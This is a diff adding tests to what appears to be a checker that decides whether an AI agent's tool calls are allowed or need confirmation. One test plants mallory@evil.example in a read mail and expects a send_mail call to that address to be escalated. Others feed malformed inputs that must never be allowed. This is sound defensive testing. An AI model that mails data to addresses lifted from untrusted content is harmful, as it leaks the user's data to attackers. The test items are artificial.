@@ -481,3 +481,28 @@ def test_two_sentences_without_a_space_name_the_address_that_ends_the_first() ->
     task = "Read mail 1 and look at www.corp.example.Then tell me what you think."
     assert last(task, MAIL, call("get_page", url="www.corp.example")) == "allow"
     assert last(task.lower(), MAIL, call("get_page", url="www.corp.example")) == "ask"
+
+
+def test_half_a_surrogate_pair_does_not_cost_a_line() -> None:
+    trajectory = Trajectory(read_tools(json.dumps(TOOLS), "tools"), POLICY)
+    lines = [
+        '{"task": "Mail ann@corp.example \\ud83d"}',
+        '{"tool": "read_mail", "args": {"id": "1"}, "result": "\\udfff mallory@evil.example"}',
+        json.dumps(call("send_mail", to="ann@corp.example", body="x")),
+        json.dumps(call("send_mail", to="mallory@evil.example", body="x")),
+    ]
+    assert [answer["decision"] for answer in simulate(lines, trajectory)] == ["allow", "allow", "ask"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '{"tool": "read_mail", "args": {"id": ' + "9" * 5000 + "}}",
+        '{"tool": "read_mail", "args": {}, "result": ' + "[" * 2000 + "]" * 2000 + "}",
+        '{"tool": "send_mail", "args": {"to": NaN}}',
+        json.dumps(call("send_mail", to=[f"a{n}@x.example" for n in range(3000)], body="x")),
+    ],
+)
+def test_numbers_depths_and_lists_without_end_are_never_a_yes(line: str) -> None:
+    trajectory = Trajectory(read_tools(json.dumps(TOOLS), "tools"), POLICY)
+    assert next(simulate([line], trajectory))["decision"] != "allow"
